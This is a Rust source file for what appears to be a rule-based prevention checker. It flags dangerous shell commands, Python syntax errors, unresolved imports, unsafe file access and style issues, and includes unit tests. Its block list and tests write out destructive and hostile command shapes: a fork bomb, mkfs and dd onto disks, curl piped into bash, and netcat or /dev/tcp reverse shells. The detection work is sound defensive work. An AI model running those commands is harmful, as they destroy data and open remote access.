//! Built-in prevention rules
//!
//! Each rule is a small struct implementing [`PreventionRule`]. Priorities
//! run from dangerous commands (110) down to resource leaks (40).

use anyhow::Result;
use once_cell::sync::Lazy;
use regex::Regex;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use super::prevention::{ContentType, PreventionRule, RuleContext, RuleOutcome};
use super::python_env;
use crate::config::PreventionConfig;

/// All built-in rules, unsorted
pub fn builtin_rules(config: &PreventionConfig) -> Vec<Box<dyn PreventionRule>> {
    vec![
        Box::new(DangerousCommandRule),
        Box::new(CliSyntaxRule),
        Box::new(SyntaxValidityRule),
        Box::new(ImportCheckRule::new(config)),
        Box::new(FileSafetyRule),
        Box::new(TypeSafetyRule),
        Box::new(RuntimeSafetyRule),
        Box::new(StylingRule {
            max_line_length: config.max_line_length,
        }),
        Box::new(ResourceLeakRule),
    ]
}

fn outcome(action: &str, suggestions: Vec<String>, confidence: f64) -> RuleOutcome {
    RuleOutcome {
        action: action.to_string(),
        suggestions,
        confidence,
    }
}

// ---------------------------------------------------------------------------
// Dangerous commands
// ---------------------------------------------------------------------------

static DANGEROUS_SHAPES: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    [
        (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", "fork bomb"),
        (r">\s*/dev/(sd[a-z]|hd[a-z]|nvme[0-9])", "raw write to a block device"),
        (r"\bdd\b.*\bof=/dev/(sd|hd|nvme)", "dd onto a block device"),
        (r"\bmkfs(\.\w+)?\b", "filesystem creation"),
        (r"\bchmod\s+-R\s+777\s+/(\*|\s|$)", "world-writable root filesystem"),
        (r"\bchown\s+-R\s+\S+\s+/(\*|\s|$)", "recursive ownership change of the root filesystem"),
        (r"\bmv\s+/\s+/dev/null\b", "moving the root filesystem away"),
        (r">\s*~/\.(bashrc|zshrc|profile)\b", "truncating a shell profile"),
        (r">\s*/etc/(passwd|shadow)\b", "overwriting system account files"),
        (r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(sh|bash|zsh)\b", "remote script piped into a shell"),
        (r"\b(nc|ncat|netcat)\b.*\s-e\b", "reverse shell"),
        (r"\b(bash|sh)\s+-i\b.*>&\s*/dev/tcp/", "reverse shell"),
    ]
    .into_iter()
    .map(|(pattern, label)| (Regex::new(pattern).unwrap(), label))
    .collect()
});

/// Known destructive command shapes
pub struct DangerousCommandRule;

impl DangerousCommandRule {
    fn hits(content: &str) -> Vec<&'static str> {
        let mut labels: Vec<&'static str> = DANGEROUS_SHAPES
            .iter()
            .filter(|(re, _)| re.is_match(content))
            .map(|(_, label)| *label)
            .collect();
        labels.dedup();
        labels
    }
}

impl PreventionRule for DangerousCommandRule {
    fn rule_id(&self) -> &str {
        "dangerous_command"
    }

    fn pattern_type(&self) -> &str {
        "dangerous_command"
    }

    fn priority(&self) -> i32 {
        110
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_shell_like()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(!Self::hits(content).is_empty())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let suggestions = Self::hits(content)
            .into_iter()
            .map(|label| format!("Command matches a known destructive shape ({}); do not run it", label))
            .collect();
        Ok(outcome("block_dangerous_command", suggestions, 0.95))
    }
}

// ---------------------------------------------------------------------------
// CLI syntax
// ---------------------------------------------------------------------------

/// `--name value` where `--name=value` is unambiguous
pub struct CliSyntaxRule;

impl CliSyntaxRule {
    fn spaced_flags(content: &str) -> Vec<(String, String)> {
        let words: Vec<&str> = content.split_whitespace().collect();
        words
            .windows(2)
            .filter(|pair| {
                let (flag, value) = (pair[0], pair[1]);
                flag.len() > 2
                    && flag.starts_with("--")
                    && !flag.contains('=')
                    && !value.starts_with('-')
                    && !matches!(value, ";" | "|" | "&&" | "||")
            })
            .map(|pair| (pair[0].to_string(), pair[1].to_string()))
            .collect()
    }
}

impl PreventionRule for CliSyntaxRule {
    fn rule_id(&self) -> &str {
        "cli_syntax"
    }

    fn pattern_type(&self) -> &str {
        "cli_error"
    }

    fn priority(&self) -> i32 {
        100
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_shell_like()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(!Self::spaced_flags(content).is_empty())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let suggestions = Self::spaced_flags(content)
            .into_iter()
            .map(|(flag, value)| format!("Use '{}={}' instead of '{} {}'", flag, value, flag, value))
            .collect();
        Ok(outcome("fix_cli_syntax", suggestions, 0.6))
    }
}

// ---------------------------------------------------------------------------
// Python syntax
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct SyntaxIssue {
    pub line: usize,
    pub column: usize,
    pub message: String,
}

impl std::fmt::Display for SyntaxIssue {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "line {}, column {}: {}", self.line, self.column, self.message)
    }
}

static BLOCK_HEADER: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^\s*(async\s+)?(def|class|if|elif|else|for|while|try|except|finally|with)\b").unwrap());

fn issue(line: usize, column: usize, message: impl Into<String>) -> SyntaxIssue {
    SyntaxIssue {
        line,
        column,
        message: message.into(),
    }
}

fn closer_for(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        _ => '}',
    }
}

/// Lightweight structural check: delimiters, string literals, and the
/// trailing colon of block headers. Reports the first problem found.
pub(crate) fn check_python_syntax(source: &str) -> Option<SyntaxIssue> {
    let chars: Vec<char> = source.chars().collect();
    let mut stack: Vec<(char, usize, usize)> = Vec::new();
    // code with strings blanked and comments dropped, per line
    let mut code_lines: Vec<(String, usize, usize)> = Vec::new();
    let mut current = String::new();
    let mut depth_at_start = 0usize;
    let (mut line, mut col) = (1usize, 1usize);
    let mut i = 0;

    while i < chars.len() {
        let c = chars[i];
        match c {
            '#' => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                    col += 1;
                }
                continue;
            }
            '\'' | '"' => {
                let triple = i + 2 < chars.len() && chars[i + 1] == c && chars[i + 2] == c;
                let quote_len = if triple { 3 } else { 1 };
                let (start_line, start_col) = (line, col);
                current.push_str("\"\"");
                i += quote_len;
                col += quote_len;
                let mut closed = false;
                while i < chars.len() {
                    let ch = chars[i];
                    if ch == '\\' {
                        i += 1;
                        col += 1;
                        if i < chars.len() {
                            if chars[i] == '\n' {
                                line += 1;
                                col = 1;
                            } else {
                                col += 1;
                            }
                            i += 1;
                        }
                        continue;
                    }
                    if ch == '\n' {
                        if !triple {
                            return Some(issue(start_line, start_col, "unterminated string literal"));
                        }
                        code_lines.push((std::mem::take(&mut current), depth_at_start, stack.len()));
                        depth_at_start = stack.len();
                        line += 1;
                        col = 1;
                        i += 1;
                        continue;
                    }
                    if ch == c && (!triple || (i + 2 < chars.len() && chars[i + 1] == c && chars[i + 2] == c)) {
                        i += quote_len;
                        col += quote_len;
                        closed = true;
                        break;
                    }
                    i += 1;
                    col += 1;
                }
                if !closed {
                    let what = if triple {
                        "unterminated triple-quoted string"
                    } else {
                        "unterminated string literal"
                    };
                    return Some(issue(start_line, start_col, what));
                }
                continue;
            }
            '(' | '[' | '{' => {
                stack.push((c, line, col));
                current.push(c);
            }
            ')' | ']' | '}' => {
                match stack.pop() {
                    None => return Some(issue(line, col, format!("unmatched '{}'", c))),
                    Some((open, open_line, open_col)) if closer_for(open) != c => {
                        return Some(issue(
                            line,
                            col,
                            format!(
                                "closing '{}' does not match '{}' opened at line {}, column {}",
                                c, open, open_line, open_col
                            ),
                        ));
                    }
                    Some(_) => {}
                }
                current.push(c);
            }
            '\n' => {
                code_lines.push((std::mem::take(&mut current), depth_at_start, stack.len()));
                depth_at_start = stack.len();
                line += 1;
                col = 1;
                i += 1;
                continue;
            }
            _ => current.push(c),
        }
        i += 1;
        col += 1;
    }
    code_lines.push((current, depth_at_start, stack.len()));

    if let Some((open, open_line, open_col)) = stack.last() {
        return Some(issue(*open_line, *open_col, format!("'{}' was never closed", open)));
    }

    for (index, (code, start_depth, end_depth)) in code_lines.iter().enumerate() {
        let trimmed = code.trim_end();
        if *start_depth != 0 || *end_depth != 0 || trimmed.ends_with('\\') {
            continue;
        }
        if BLOCK_HEADER.is_match(trimmed) && !trimmed.contains(':') {
            return Some(issue(index + 1, trimmed.chars().count() + 1, "expected ':'"));
        }
    }
    None
}

/// `source` with comments dropped and string literals reduced to `""`.
/// Line breaks are kept, so line numbers still match the input.
pub(crate) fn code_only(source: &str) -> String {
    let chars: Vec<char> = source.chars().collect();
    let mut out = String::with_capacity(source.len());
    let mut i = 0;

    while i < chars.len() {
        let c = chars[i];
        match c {
            '#' => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\'' | '"' => {
                let triple = i + 2 < chars.len() && chars[i + 1] == c && chars[i + 2] == c;
                let quote_len = if triple { 3 } else { 1 };
                out.push_str("\"\"");
                i += quote_len;
                while i < chars.len() {
                    let ch = chars[i];
                    if ch == '\\' {
                        if chars.get(i + 1) == Some(&'\n') {
                            out.push('\n');
                        }
                        i += 2;
                        continue;
                    }
                    if ch == '\n' {
                        out.push('\n');
                        i += 1;
                        if triple {
                            continue;
                        }
                        break;
                    }
                    if ch == c && (!triple || (i + 2 < chars.len() && chars[i + 1] == c && chars[i + 2] == c)) {
                        i += quote_len;
                        break;
                    }
                    i += 1;
                }
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// Structural Python syntax check with line/column reporting
pub struct SyntaxValidityRule;

impl PreventionRule for SyntaxValidityRule {
    fn rule_id(&self) -> &str {
        "syntax_validity"
    }

    fn pattern_type(&self) -> &str {
        "syntax_error"
    }

    fn priority(&self) -> i32 {
        95
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_python()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(check_python_syntax(content).is_some())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let suggestions = check_python_syntax(content)
            .map(|issue| vec![format!("Syntax error at {}", issue)])
            .unwrap_or_default();
        Ok(outcome("fix_syntax_error", suggestions, 0.9))
    }
}

// ---------------------------------------------------------------------------
// Imports
// ---------------------------------------------------------------------------

static IMPORT_STMT: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?m)^\s*import\s+([\w.]+(?:\s+as\s+\w+)?(?:\s*,\s*[\w.]+(?:\s+as\s+\w+)?)*)").unwrap());
static FROM_STMT: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?m)^\s*from\s+([\w.]+)\s+import\b").unwrap());

/// Top-level module names imported by `source`, relative imports excluded
pub(crate) fn imported_modules(source: &str) -> BTreeSet<String> {
    let mut modules = BTreeSet::new();
    for caps in IMPORT_STMT.captures_iter(source) {
        for item in caps[1].split(',') {
            if let Some(name) = item.split_whitespace().next() {
                if let Some(top) = name.split('.').next().filter(|t| !t.is_empty()) {
                    modules.insert(top.to_string());
                }
            }
        }
    }
    for caps in FROM_STMT.captures_iter(source) {
        let name = &caps[1];
        if name.starts_with('.') {
            continue;
        }
        if let Some(top) = name.split('.').next() {
            modules.insert(top.to_string());
        }
    }
    modules
}

/// Imports that cannot be resolved in the target environment
pub struct ImportCheckRule {
    known_modules: Vec<String>,
    search_paths: Vec<PathBuf>,
    interpreter: String,
}

impl ImportCheckRule {
    pub fn new(config: &PreventionConfig) -> Self {
        Self {
            known_modules: config.known_modules.clone(),
            search_paths: config.module_search_paths.clone(),
            interpreter: config.python_interpreter.clone(),
        }
    }

    fn roots(&self, ctx: &RuleContext) -> Vec<PathBuf> {
        let mut roots: Vec<PathBuf> = Vec::new();
        roots.extend(ctx.cwd.iter().cloned());
        roots.extend(ctx.file_path.as_deref().and_then(Path::parent).map(Path::to_path_buf));
        roots.extend(self.search_paths.iter().cloned());
        roots.extend(python_env::virtualenv_site_packages());
        roots.extend(python_env::interpreter_search_paths(&self.interpreter));
        roots
    }

    fn resolvable(&self, module: &str, roots: &[PathBuf]) -> bool {
        python_env::is_stdlib(module)
            || self.known_modules.iter().any(|m| m == module)
            || roots.iter().any(|root| python_env::module_in(root, module))
    }

    fn missing(&self, content: &str, ctx: &RuleContext) -> Vec<String> {
        let modules = imported_modules(&code_only(content));
        if modules.iter().all(|m| python_env::is_stdlib(m)) {
            return Vec::new();
        }
        let roots = self.roots(ctx);
        modules.into_iter().filter(|m| !self.resolvable(m, &roots)).collect()
    }
}

impl PreventionRule for ImportCheckRule {
    fn rule_id(&self) -> &str {
        "import_check"
    }

    fn pattern_type(&self) -> &str {
        "import_error"
    }

    fn priority(&self) -> i32 {
        90
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_python()
    }

    fn condition(&self, content: &str, ctx: &RuleContext) -> Result<bool> {
        Ok(!self.missing(content, ctx).is_empty())
    }

    fn action(&self, content: &str, ctx: &RuleContext) -> Result<RuleOutcome> {
        let suggestions = self
            .missing(content, ctx)
            .into_iter()
            .map(|m| format!("Module '{}' is not importable here; install it and add it to requirements.txt", m))
            .collect();
        Ok(outcome("resolve_imports", suggestions, 0.7))
    }
}

// ---------------------------------------------------------------------------
// File safety
// ---------------------------------------------------------------------------

static FILE_ACCESS: Lazy<Regex> = Lazy::new(|| Regex::new(r"\bopen\(|\.read\(|\.write\(").unwrap());
static GUARD_HEADER: Lazy<Regex> = Lazy::new(|| Regex::new(r"^\s*((async\s+)?with\b|try\s*:)").unwrap());

/// Unguarded file access and path traversal
pub struct FileSafetyRule;

impl FileSafetyRule {
    /// Lines doing file access outside any `with` or `try` block
    fn unguarded_access(code: &str) -> Vec<usize> {
        let mut blocks: Vec<(usize, bool)> = Vec::new();
        let mut lines = Vec::new();
        for (index, line) in code.lines().enumerate() {
            if line.trim().is_empty() {
                continue;
            }
            let indent = line.len() - line.trim_start().len();
            while blocks.last().map_or(false, |(depth, _)| *depth >= indent) {
                blocks.pop();
            }
            let guard = GUARD_HEADER.is_match(line);
            if FILE_ACCESS.is_match(line) && !guard && !blocks.iter().any(|(_, g)| *g) {
                lines.push(index + 1);
            }
            if line.trim_end().ends_with(':') {
                blocks.push((indent, guard));
            }
        }
        lines
    }

    fn findings(content: &str) -> Vec<(String, f64)> {
        let mut findings = Vec::new();
        let unguarded = Self::unguarded_access(&code_only(content));
        if !unguarded.is_empty() {
            findings.push((
                format!(
                    "Wrap file access on line(s) {} in a 'with' block or try/finally so handles are released on error",
                    line_list(&unguarded)
                ),
                0.5,
            ));
        }
        if content.contains("../") || content.contains("..\\") {
            findings.push((
                "Path uses '..' traversal; resolve it and check it stays inside the project".to_string(),
                0.75,
            ));
        }
        findings
    }
}

impl PreventionRule for FileSafetyRule {
    fn rule_id(&self) -> &str {
        "file_safety"
    }

    fn pattern_type(&self) -> &str {
        "file_safety"
    }

    fn priority(&self) -> i32 {
        80
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(!Self::findings(content).is_empty())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let findings = Self::findings(content);
        let confidence = findings.iter().map(|(_, c)| *c).fold(0.0, f64::max);
        Ok(outcome(
            "guard_file_access",
            findings.into_iter().map(|(s, _)| s).collect(),
            confidence,
        ))
    }
}

// ---------------------------------------------------------------------------
// Type safety
// ---------------------------------------------------------------------------

static NONE_ACCESS: Lazy<Regex> = Lazy::new(|| Regex::new(r"\bNone\s*(\.\s*[A-Za-z_]\w*|\[)").unwrap());

/// Attribute or item access on a literal `None`
pub struct TypeSafetyRule;

impl PreventionRule for TypeSafetyRule {
    fn rule_id(&self) -> &str {
        "type_safety"
    }

    fn pattern_type(&self) -> &str {
        "type_error"
    }

    fn priority(&self) -> i32 {
        70
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_python()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(NONE_ACCESS.is_match(&code_only(content)))
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let code = code_only(content);
        let suggestions = NONE_ACCESS
            .find_iter(&code)
            .map(|m| format!("'{}' always raises; check the value for None first", m.as_str()))
            .collect();
        Ok(outcome("guard_none_access", suggestions, 0.8))
    }
}

// ---------------------------------------------------------------------------
// Runtime safety
// ---------------------------------------------------------------------------

static ZERO_DIVISION: Lazy<Regex> = Lazy::new(|| Regex::new(r"(^|[^/])//?\s*0+(\.0+)?([^\w.]|$)").unwrap());
static OPTIONAL_ASSIGN: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"(?m)^\s*([A-Za-z_]\w*)\s*=\s*(?:.*\.get\(.*|None)\s*$").unwrap());

/// Division by a literal zero, and mutation of values that may be None
pub struct RuntimeSafetyRule;

impl RuntimeSafetyRule {
    fn unguarded_mutations(content: &str) -> Result<Vec<String>> {
        let mut names: Vec<String> = Vec::new();
        for caps in OPTIONAL_ASSIGN.captures_iter(content) {
            let name = caps[1].to_string();
            if names.contains(&name) {
                continue;
            }
            let var = regex::escape(&name);
            let mutated = Regex::new(&format!(r"\b{}\.(append|extend|insert|pop|remove|update|add)\(", var))?;
            let guarded = Regex::new(&format!(
                r"\bif\s+(not\s+)?{}\b|\b{}\s+is\s+(not\s+)?None\b|\b{}\s+or\b",
                var, var, var
            ))?;
            if mutated.is_match(content) && !guarded.is_match(content) {
                names.push(name);
            }
        }
        Ok(names)
    }

    fn findings(content: &str) -> Result<Vec<(String, f64)>> {
        let code = code_only(content);
        let mut findings = Vec::new();
        if ZERO_DIVISION.is_match(&code) {
            findings.push(("Division by a literal zero raises ZeroDivisionError".to_string(), 0.8));
        }
        for name in Self::unguarded_mutations(&code)? {
            findings.push((
                format!("'{}' may be None when it is mutated; check it before calling methods on it", name),
                0.6,
            ));
        }
        Ok(findings)
    }
}

impl PreventionRule for RuntimeSafetyRule {
    fn rule_id(&self) -> &str {
        "runtime_safety"
    }

    fn pattern_type(&self) -> &str {
        "runtime_error"
    }

    fn priority(&self) -> i32 {
        60
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_python()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(!Self::findings(content)?.is_empty())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let findings = Self::findings(content)?;
        let confidence = findings.iter().map(|(_, c)| *c).fold(0.0, f64::max);
        Ok(outcome(
            "guard_runtime_error",
            findings.into_iter().map(|(s, _)| s).collect(),
            confidence,
        ))
    }
}

// ---------------------------------------------------------------------------
// Styling
// ---------------------------------------------------------------------------

/// Trailing whitespace and over-long lines
pub struct StylingRule {
    pub max_line_length: usize,
}

impl StylingRule {
    fn findings(&self, content: &str) -> Vec<String> {
        let mut trailing = Vec::new();
        let mut long = Vec::new();
        for (index, line) in content.lines().enumerate() {
            if line.ends_with(' ') || line.ends_with('\t') {
                trailing.push(index + 1);
            }
            if line.chars().count() > self.max_line_length {
                long.push(index + 1);
            }
        }

        let mut findings = Vec::new();
        if !trailing.is_empty() {
            findings.push(format!("Remove trailing whitespace on line(s) {}", line_list(&trailing)));
        }
        if !long.is_empty() {
            findings.push(format!(
                "Wrap line(s) {} to at most {} characters",
                line_list(&long),
                self.max_line_length
            ));
        }
        findings
    }
}

fn line_list(lines: &[usize]) -> String {
    let shown: Vec<String> = lines.iter().take(5).map(|l| l.to_string()).collect();
    if lines.len() > shown.len() {
        format!("{} and {} more", shown.join(", "), lines.len() - shown.len())
    } else {
        shown.join(", ")
    }
}

impl PreventionRule for StylingRule {
    fn rule_id(&self) -> &str {
        "styling"
    }

    fn pattern_type(&self) -> &str {
        "styling_error"
    }

    fn priority(&self) -> i32 {
        50
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type != ContentType::Command
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(!self.findings(content).is_empty())
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        Ok(outcome("fix_styling", self.findings(content), 0.3))
    }
}

// ---------------------------------------------------------------------------
// Resource leaks
// ---------------------------------------------------------------------------

static OPEN_CALL: Lazy<Regex> = Lazy::new(|| Regex::new(r"\bopen\(").unwrap());
static WITH_OPEN: Lazy<Regex> = Lazy::new(|| Regex::new(r"^\s*(async\s+)?with\b").unwrap());
static CLOSE_CALL: Lazy<Regex> = Lazy::new(|| Regex::new(r"\.close\(\)").unwrap());

/// Handles opened outside `with` and never closed
pub struct ResourceLeakRule;

impl ResourceLeakRule {
    fn unclosed(content: &str) -> usize {
        let code = code_only(content);
        let opens: usize = code
            .lines()
            .filter(|line| !WITH_OPEN.is_match(line))
            .map(|line| OPEN_CALL.find_iter(line).count())
            .sum();
        let closes = CLOSE_CALL.find_iter(&code).count();
        opens.saturating_sub(closes)
    }
}

impl PreventionRule for ResourceLeakRule {
    fn rule_id(&self) -> &str {
        "resource_leak"
    }

    fn pattern_type(&self) -> &str {
        "resource_leak"
    }

    fn priority(&self) -> i32 {
        40
    }

    fn applies_to(&self, content_type: ContentType) -> bool {
        content_type.is_python()
    }

    fn condition(&self, content: &str, _ctx: &RuleContext) -> Result<bool> {
        Ok(Self::unclosed(content) > 0)
    }

    fn action(&self, content: &str, _ctx: &RuleContext) -> Result<RuleOutcome> {
        let count = Self::unclosed(content);
        Ok(outcome(
            "close_resources",
            vec![format!(
                "{} file handle(s) opened without a matching close(); use 'with open(...)'",
                count
            )],
            0.5,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLEAN_PYTHON: &str = r#"import os
import json


def load(path):
    """Read a settings file.

    for example the default one
    """
    with open(path) as handle:
        data = json.load(handle)
    if data:
        return {"size": len(data), "cwd": os.getcwd()}
    return None
"#;

    #[test]
    fn test_clean_python_passes_every_rule() {
        let ctx = RuleContext::default();
        for rule in builtin_rules(&PreventionConfig::default()) {
            if rule.applies_to(ContentType::Python) {
                assert!(
                    !rule.condition(CLEAN_PYTHON, &ctx).unwrap(),
                    "{} fired on clean code",
                    rule.rule_id()
                );
            }
        }
    }

    #[test]
    fn test_syntax_unclosed_paren() {
        let issue = check_python_syntax("x = 1\nprint((x)\ny = 2\n").unwrap();
        assert_eq!((issue.line, issue.column), (2, 6));
        assert!(issue.message.contains("never closed"));
    }

    #[test]
    fn test_syntax_mismatched_bracket() {
        let issue = check_python_syntax("items = [1, 2)\n").unwrap();
        assert_eq!(issue.line, 1);
        assert_eq!(issue.column, 14);
        assert!(issue.message.contains("does not match"));
    }

    #[test]
    fn test_syntax_unterminated_string() {
        let issue = check_python_syntax("name = 'abc\nother = 1\n").unwrap();
        assert_eq!((issue.line, issue.column), (1, 8));
    }

    #[test]
    fn test_syntax_missing_colon() {
        let issue = check_python_syntax("def main()\n    return 1\n").unwrap();
        assert_eq!(issue.line, 1);
        assert_eq!(issue.message, "expected ':'");
    }

    #[test]
    fn test_syntax_ignores_strings_and_comments() {
        assert!(check_python_syntax("s = '(['  # ) unbalanced in comment\n").is_none());
        assert!(check_python_syntax("x = (1,\n     2)\nif x: print(x)\n").is_none());
    }

    #[test]
    fn test_imported_modules() {
        let modules = imported_modules("import os, numpy as np\nfrom requests.adapters import X\nfrom . import local\n");
        let modules: Vec<_> = modules.into_iter().collect();
        assert_eq!(modules, vec!["numpy", "os", "requests"]);
    }

    #[test]
    fn test_import_rule_searches_cwd() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("helpers.py"), "").unwrap();
        let rule = ImportCheckRule::new(&PreventionConfig::default());
        let ctx = RuleContext::in_dir(dir.path());

        assert!(!rule.condition("import helpers\nimport sys\n", &ctx).unwrap());
        assert!(rule.condition("import surely_missing_pkg_xyz\n", &ctx).unwrap());

        let outcome = rule.action("import surely_missing_pkg_xyz\n", &ctx).unwrap();
        assert!(outcome.suggestions[0].contains("requirements.txt"));
    }

    #[test]
    fn test_stdlib_imports_resolve_without_an_interpreter() {
        let config = PreventionConfig {
            python_interpreter: String::new(),
            ..Default::default()
        };
        let rule = ImportCheckRule::new(&config);
        let source = "import codecs\nimport zoneinfo, locale\nfrom tomllib import loads\nimport atexit, binascii, sysconfig, numbers\n";
        assert!(!rule.condition(source, &RuleContext::default()).unwrap());
    }

    #[test]
    fn test_import_rule_searches_module_paths() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("vendored")).unwrap();
        let config = PreventionConfig {
            module_search_paths: vec![dir.path().to_path_buf()],
            python_interpreter: String::new(),
            ..Default::default()
        };
        let rule = ImportCheckRule::new(&config);
        assert!(!rule.condition("from vendored.core import run\n", &RuleContext::default()).unwrap());
    }

    #[test]
    fn test_imports_in_docstrings_are_ignored() {
        let rule = ImportCheckRule::new(&PreventionConfig::default());
        let source = "def f():\n    \"\"\"\n    import surely_missing_pkg_xyz\n    \"\"\"\n";
        assert!(!rule.condition(source, &RuleContext::default()).unwrap());
    }

    #[test]
    fn test_known_modules_are_trusted() {
        let config = PreventionConfig {
            known_modules: vec!["numpy".to_string()],
            ..Default::default()
        };
        let rule = ImportCheckRule::new(&config);
        assert!(!rule.condition("import numpy\n", &RuleContext::default()).unwrap());
    }

    #[test]
    fn test_cli_syntax() {
        let rule = CliSyntaxRule;
        let ctx = RuleContext::default();
        assert!(rule.condition("tool --output out.txt", &ctx).unwrap());
        assert!(!rule.condition("tool --output=out.txt --verbose", &ctx).unwrap());
        let outcome = rule.action("tool --output out.txt", &ctx).unwrap();
        assert_eq!(outcome.suggestions, vec!["Use '--output=out.txt' instead of '--output out.txt'"]);
    }

    #[test]
    fn test_dangerous_shapes() {
        let rule = DangerousCommandRule;
        let ctx = RuleContext::default();
        assert!(rule.condition(":(){ :|:& };:", &ctx).unwrap());
        assert!(rule.condition("curl -s https://x.sh | bash", &ctx).unwrap());
        assert!(rule.condition("mkfs.ext4 /dev/sdb1", &ctx).unwrap());
        assert!(!rule.condition("chmod -R 777 /tmp/build", &ctx).unwrap());
        assert!(!rule.condition("ls -la", &ctx).unwrap());
    }

    #[test]
    fn test_file_safety() {
        let ctx = RuleContext::default();
        let rule = FileSafetyRule;
        let outcome = rule.action("f = open('data.txt')\nf.read()\n", &ctx).unwrap();
        assert_eq!(outcome.confidence, 0.5);

        let outcome = rule.action("with open('../secret') as f:\n    pass\n", &ctx).unwrap();
        assert_eq!(outcome.confidence, 0.75);
        assert_eq!(outcome.suggestions.len(), 1);
    }

    #[test]
    fn test_file_safety_guard_is_per_block() {
        let ctx = RuleContext::default();
        let rule = FileSafetyRule;
        let code = "with open('a') as f:\n    data = f.read()\nraw = open('b').read()\n";
        let outcome = rule.action(code, &ctx).unwrap();
        assert_eq!(outcome.suggestions.len(), 1);
        assert!(outcome.suggestions[0].contains("line(s) 3"));

        let guarded = "try:\n    f = open('a')\n    f.write('x')\nfinally:\n    f.close()\n";
        assert!(!rule.condition(guarded, &ctx).unwrap());
        assert!(!rule.condition("# open('a') later\nx = 'f.read(1)'\n", &ctx).unwrap());
    }

    #[test]
    fn test_code_only_blanks_strings_and_comments() {
        let code = code_only("url = 'http://0'  # 1/0\ndoc = \"\"\"a\nb\"\"\"\nx = 1\n");
        assert_eq!(code, "url = \"\"  \ndoc = \"\"\n\nx = 1\n");
    }

    #[test]
    fn test_type_safety() {
        let rule = TypeSafetyRule;
        let ctx = RuleContext::default();
        assert!(rule.condition("value = None.strip()", &ctx).unwrap());
        assert!(!rule.condition("if value is None:\n    pass\n", &ctx).unwrap());
    }

    #[test]
    fn test_runtime_safety() {
        let ctx = RuleContext::default();
        let rule = RuntimeSafetyRule;
        assert!(rule.condition("ratio = total / 0\n", &ctx).unwrap());
        assert!(!rule.condition("ratio = total / 0.5\n", &ctx).unwrap());

        let code = "items = cache.get('k')\nitems.append(1)\n";
        let outcome = rule.action(code, &ctx).unwrap();
        assert_eq!(outcome.confidence, 0.6);
        assert!(outcome.suggestions[0].contains("'items'"));

        let guarded = "items = cache.get('k')\nif items:\n    items.append(1)\n";
        assert!(!rule.condition(guarded, &ctx).unwrap());

        assert!(!rule.condition("# 1/0 is undefined\nratio = 1\n", &ctx).unwrap());
        assert!(!rule.condition("url = 'http://0'\n", &ctx).unwrap());
    }

    #[test]
    fn test_styling() {
        let rule = StylingRule { max_line_length: 10 };
        let findings = rule.findings("short  \nthis line is too long\nok\n");
        assert_eq!(findings.len(), 2);
        assert!(findings[0].contains("line(s) 1"));
        assert!(findings[1].contains("line(s) 2"));
    }

    #[test]
    fn test_resource_leak() {
        assert_eq!(ResourceLeakRule::unclosed("f = open('a')\ng = open('b')\nf.close()\n"), 1);
        assert_eq!(ResourceLeakRule::unclosed("with open('a') as f:\n    pass\n"), 0);
    }
}
